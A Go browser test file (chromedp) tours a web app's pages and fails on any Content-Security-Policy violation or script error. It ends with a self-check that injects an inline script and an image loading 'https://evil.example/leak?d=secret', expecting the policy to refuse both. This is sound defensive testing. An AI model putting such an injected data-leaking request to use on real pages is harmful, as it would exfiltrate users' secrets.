package main

import (
	"context"
	"fmt"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// pageWatch gathers what the browser reports as wrong while a test uses the app: a
// Content-Security-Policy violation, an uncaught JavaScript error, an error written to the
// console (Alpine's and htmx's among them), a static file that failed to load.
type pageWatch struct {
	t   *testing.T
	ctx context.Context

	mu       sync.Mutex
	problems []string
	marks    map[string]bool // checkpoints the console has seen, to know it is read up to them
}

// violationReporter runs in every document before the page's own scripts: it writes each
// violation the browser reports to the console, where the watch reads it. (Chromium also
// logs violations itself; this makes sure none goes unseen, e.g. one a script caught.)
const violationReporter = `document.addEventListener("securitypolicyviolation", (e) =>
	console.error("CSP violation: " + e.violatedDirective + " blocked " + (e.blockedURI || "inline code") +
		" in " + e.sourceFile + ":" + e.lineNumber + " (" + (e.sample || "") + ")"));`

// watchPage starts watching the tab of ctx; call it before the first navigation.
func watchPage(t *testing.T, ctx context.Context) *pageWatch {
	t.Helper()
	w := &pageWatch{t: t, ctx: ctx, marks: map[string]bool{}}
	messages := chromedp.Console(ctx)
	if _, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument,
		page.AddScriptToEvaluateOnNewDocumentParams{Source: violationReporter}); err != nil {
		t.Fatalf("browser: adding the violation reporter: %v", err)
	}
	go func() {
		for m, err := range messages {
			if err != nil {
				return
			}
			w.mu.Lock()
			if mark, ok := strings.CutPrefix(m.Text, "fastopp checkpoint "); ok {
				w.marks[mark] = true
			} else if isProblem(m) {
				w.problems = append(w.problems, fmt.Sprintf("%s (%s %s)", m.String(), m.Source, m.URL))
			}
			w.mu.Unlock()
		}
	}()
	return w
}

// isProblem decides which console messages fail the test.
func isProblem(m chromedp.ConsoleMessage) bool {
	switch {
	case m.IsException(), m.Source == "security":
		return true
	case strings.Contains(m.Text, "Content Security Policy"), strings.Contains(m.Text, "Content-Security-Policy"),
		strings.HasPrefix(m.Text, "CSP violation"), strings.Contains(m.Text, "Alpine"), strings.Contains(m.Text, "htmx"):
		return m.Type == chromedp.ConsoleError || m.Type == chromedp.ConsoleWarning
	case m.Source == "network":
		// A page the test asks for on purpose may answer 404 or 422; a missing asset is a bug.
		return strings.Contains(m.URL, "/static/")
	}
	return m.Type == chromedp.ConsoleError
}

// take waits until the browser's console has been read up to now and returns the problems
// it reported since the last call.
func (w *pageWatch) take() []string {
	w.t.Helper()
	mark := fmt.Sprint(time.Now().UnixNano())
	if _, err := chromedp.Run(w.ctx, chromedp.Evaluate[bool](
		fmt.Sprintf(`console.log("fastopp checkpoint %s"), true`, mark))); err != nil {
		w.t.Fatalf("browser: writing a checkpoint: %v", err)
	}
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		w.mu.Lock()
		seen := w.marks[mark]
		problems := w.problems
		if seen {
			w.problems = nil
		}
		w.mu.Unlock()
		if seen {
			return problems
		}
		if time.Now().After(deadline) {
			w.t.Fatal("browser: the console never showed the checkpoint")
		}
	}
}

// check fails the test for each problem reported since the last check, naming step.
func (w *pageWatch) check(step string) {
	w.t.Helper()
	for _, problem := range w.take() {
		w.t.Errorf("%s: the browser reported: %s", step, problem)
	}
}

// tour drives one browser tab through an app, checking for problems after each step.
type tour struct {
	t     *testing.T
	ctx   context.Context
	base  string
	watch *pageWatch
}

func newTour(t *testing.T, base string) *tour {
	ctx := newBrowser(t)
	return &tour{t: t, ctx: ctx, base: base, watch: watchPage(t, ctx)}
}

// do runs the actions of one step and checks what the browser reported meanwhile.
func (tr *tour) do(step string, actions ...chromedp.Action[chromedp.Void]) {
	tr.t.Helper()
	if err := chromedp.Do(tr.ctx, actions...); err != nil {
		tr.t.Fatalf("browser: %s: %v", step, err)
	}
	tr.watch.check(step)
}

// visit opens path and waits until the element sel is shown.
func (tr *tour) visit(path, sel string) {
	tr.t.Helper()
	tr.do("opening "+path, chromedp.Navigate(tr.base+path), chromedp.WaitVisible(chromedp.CSS(sel)))
}

// submit clicks a submit button, waits for the page it leads to and checks it.
func (tr *tour) submit(step, button string) {
	tr.t.Helper()
	submitAndWait(tr.t, tr.ctx, button)
	tr.watch.check(step)
}

// text returns the trimmed text of sel.
func (tr *tour) text(sel string) string {
	tr.t.Helper()
	return textOf(tr.t, tr.ctx, sel)
}

// waitText waits until sel's text holds want.
func (tr *tour) waitText(step, sel, want string) {
	tr.t.Helper()
	waitForText(tr.t, tr.ctx, sel, want)
	tr.watch.check(step)
}

// TestBrowserContentSecurityPolicy uses every page of the default app (demo widgets, notes,
// login, account, chat in demo mode, documents, the admin's lists, forms and search, 404) and fails on
// any policy violation or script error the browser reports. It ends by showing that the
// watch sees a violation: an injected inline script and a remote image are both refused.
func TestBrowserContentSecurityPolicy(t *testing.T) {
	sc := scenarios[0]
	app := appFor(t, sc)
	t.Setenv("OPENROUTER_API_KEY", "") // the chat answers in demo mode
	srv := startServer(t, app, sc)
	defer srv.stop()
	requireBuiltAssets(t, srv.base)
	const email, password = "csp-browser@example.com", "a long enough password"
	srv.manage(t, app, password, "createsuperuser", "--email", email, "--password-stdin")
	tr := newTour(t, srv.base)

	tr.visit("/", "main")
	tr.visit("/demo", "#load-partial")
	tr.do("demo: htmx loads the partial", chromedp.Click(chromedp.CSS("#load-partial")),
		chromedp.WaitVisible(chromedp.CSS(`#partial-target [data-testid="partial-loaded"]`)))
	tr.do("demo: the Alpine counter", chromedp.Click(chromedp.CSS("#counter-button")), chromedp.Click(chromedp.CSS("#counter-button")))
	if got := tr.text("#counter-value"); got != "2" {
		t.Errorf("the counter shows %q after two clicks, want 2 (Alpine's CSP build runs count++)", got)
	}
	tr.do("demo: Alpine shows and hides", chromedp.Click(chromedp.CSS("#toggle-button")), chromedp.WaitVisible(chromedp.CSS("#toggle-panel")))
	tr.visit("/no-such-page", "main")

	tr.visit("/notes", "#note-body")
	tr.do("notes: an empty note comes back with its message (a 422 swapped in)",
		chromedp.Click(chromedp.CSS(`#notes button[type="submit"]`)), chromedp.WaitVisible(chromedp.CSS(`#notes [role="alert"]`)))
	tr.do("notes: saving one", chromedp.SendKeys(chromedp.CSS("#note-body"), "Written on the CSP tour"),
		chromedp.Click(chromedp.CSS(`#notes button[type="submit"]`)))
	tr.waitText("notes: the saved note is listed", "#notes ul", "Written on the CSP tour")

	browserLogin(t, tr.ctx, srv.base+"/account", email, password, "#account-email")
	tr.watch.check("logging in")
	tr.visit("/account/password", "#password-form")

	// The chat streams the demo answer, then shows it as the server's HTML (x-answer-html).
	tr.visit("/chat", "#chat-form")
	tr.do("chat: sending with the button", chromedp.SendKeys(chromedp.CSS("#chat-input"), "Hello"), chromedp.Click(chromedp.CSS("#chat-send")))
	tr.do("chat: the answer is rendered as HTML",
		chromedp.WaitVisible(chromedp.CSS(`#chat-messages [data-status="complete"] .chat-markdown table`)))
	tr.do("chat: sending with Enter", chromedp.SendKeys(chromedp.CSS("#chat-input"), "Again"+kb.Enter))
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		n, err := chromedp.Run(tr.ctx, chromedp.Evaluate[int](
			`document.querySelectorAll('#chat-messages [data-role="assistant"][data-status="complete"] .chat-markdown table').length`))
		if err == nil && n == 2 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the second answer (sent with Enter) never completed: %d complete, %v", n, err)
		}
	}
	tr.watch.check("chat: the second answer")

	// Documents: the paste form posts with htmx and the list, pending, refreshes itself.
	tr.visit("/documents", "#paste-form")
	tr.do("documents: pasting a text", chromedp.SendKeys(chromedp.CSS("#paste-text"), "# Tour notes\n\nA document from the CSP tour."),
		chromedp.Click(chromedp.CSS(`#paste-form button[type="submit"]`)))
	tr.waitText("documents: the document is listed", "#documents-list", "Tour notes")
	tr.visit("/documents/1", "#document-title")

	tr.visit("/admin", "#admin-models")
	tr.visit("/admin/notes", "#admin-table")
	tr.do("admin: searching as you type (htmx)", chromedp.SendKeys(chromedp.CSS("#admin-search"), "tour"))
	tr.waitText("admin: the search's result", "#admin-total", "1 row")
	tr.do("admin: sorting (htmx)", chromedp.Click(chromedp.CSS("#admin-rows th a")))
	tr.visit("/admin/notes/new", "#admin-form")
	tr.do("admin: writing a note", chromedp.SendKeys(chromedp.CSS("#field-body"), "Added in the admin"))
	tr.submit("admin: saving the note", "#admin-save")
	tr.visit("/admin/users", "#admin-table")
	tr.visit("/admin/users/1", "#admin-form")
	tr.visit("/admin/users/1/groups", "main form")
	tr.visit("/admin/groups/new", "#admin-form")
	tr.visit("/admin/audit", "main")
	tr.do("logging out", chromedp.Click(chromedp.CSS("#logout-button")), chromedp.WaitVisible(chromedp.CSS("#nav-login")))

	// The watch must see what it is there for: code slipped into a page is refused and reported.
	tr.visit("/", "main")
	injected, err := chromedp.Run(tr.ctx, chromedp.Evaluate[bool](`(() => {
		const script = document.createElement("script");
		script.textContent = "window.fastoppInjected = true";
		document.body.append(script);
		const image = document.createElement("img");
		image.src = "https://evil.example/leak?d=secret";
		document.body.append(image);
		return window.fastoppInjected === true;
	})()`))
	if err != nil {
		t.Fatal(err)
	}
	if injected {
		t.Error("an inline script without the nonce ran")
	}
	var refused []string
	for deadline := time.Now().Add(5 * time.Second); len(refused) < 2 && time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		for _, problem := range tr.watch.take() {
			if strings.HasPrefix(problem, "error: CSP violation") {
				refused = append(refused, problem)
			}
		}
	}
	joined := strings.Join(refused, "\n")
	if !strings.Contains(joined, "script-src") || !strings.Contains(joined, "img-src") || !strings.Contains(joined, "evil.example") {
		t.Errorf("the watch did not report both the injected script and the remote image; it saw:\n%s", joined)
	}
}

// TestBrowserContentSecurityPolicyGrownApp does the same in an app grown by `fastopp add`:
// the admin of the added models (a ForeignKey search box among them), their public pages
// and the added pages.
func TestBrowserContentSecurityPolicyGrownApp(t *testing.T) {
	var sc scenario
	for _, s := range scenarios {
		if s.name == "grown" {
			sc = s
		}
	}
	app := appFor(t, sc)
	srv := startServer(t, app, sc)
	defer srv.stop()
	requireBuiltAssets(t, srv.base)
	const email, password = "csp-grown@example.com", "a long enough password"
	srv.manage(t, app, password, "createsuperuser", "--email", email, "--password-stdin")
	// More authors than a select offers, so a book's author is chosen with the search box.
	execSQLite(t, app, filepath.Join(srv.workDir, "data", "app.db"),
		`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 501)
		 INSERT INTO authors (name) SELECT 'Author ' || i FROM n`)
	tr := newTour(t, srv.base)

	browserLogin(t, tr.ctx, srv.base+"/admin", email, password, "#admin-models")
	tr.watch.check("logging in")
	for _, model := range []string{"authors", "books", "categories"} {
		tr.visit("/admin/"+model, "#admin-table")
		tr.visit("/admin/"+model+"/new", "#admin-form")
	}
	tr.visit("/admin/authors?q=Author%2042", "#admin-table")

	tr.visit("/admin/books/new", "#lookup-author_id")
	tr.do("books: searching an author (htmx)", chromedp.SendKeys(chromedp.CSS("#lookup-author_id"), "Author 42"),
		chromedp.WaitVisible(chromedp.CSS("#lookup-results-author_id .admin-lookup-choice")))
	tr.do("books: choosing one (Alpine)", chromedp.Click(chromedp.CSS("#lookup-results-author_id .admin-lookup-choice")))
	if got := tr.text("#chosen-author_id"); !strings.HasPrefix(got, "Author 42") {
		t.Errorf("after choosing, the form shows %q, want the author's name", got)
	}
	tr.do("books: filling the form",
		chromedp.SendKeys(chromedp.CSS("#field-title"), "A book from the CSP tour"),
		chromedp.SetValue(chromedp.CSS("#field-pages"), "120"),
		chromedp.SetValue(chromedp.CSS("#field-released"), "2024-05-06"),
		chromedp.SetValue(chromedp.CSS("#field-owner_id"), "1"),
		chromedp.SetValue(chromedp.CSS("#field-rating"), "4.5"),
	)
	tr.submit("books: saving", "#admin-save")
	if problems, _ := chromedp.Run(tr.ctx, chromedp.Evaluate[string](
		`[...document.querySelectorAll('#admin-form [role="alert"]')].map(e => e.id + ": " + e.innerText).join("; ")`)); problems != "" {
		t.Fatalf("the book form was refused: %s", problems)
	}
	tr.visit("/admin/books", "#admin-table")
	if got := tr.text("#admin-rows"); !strings.Contains(got, "A book from the CSP tour") || !strings.Contains(got, "Author 42") {
		t.Fatalf("the book, by the author chosen in the search box, was not saved; the list shows %q", got)
	}
	tr.visit("/admin/categories/new", "#admin-form")
	tr.do("categories: filling the form", chromedp.SendKeys(chromedp.CSS("#field-name"), "Tour category"))
	tr.submit("categories: saving", "#admin-save")

	for _, path := range []string{"/books", "/books/1", "/categories", "/categories/1", "/about", "/contact-us", "/demo", "/chat", "/account", "/no-such-page"} {
		tr.visit(path, "main")
	}
}
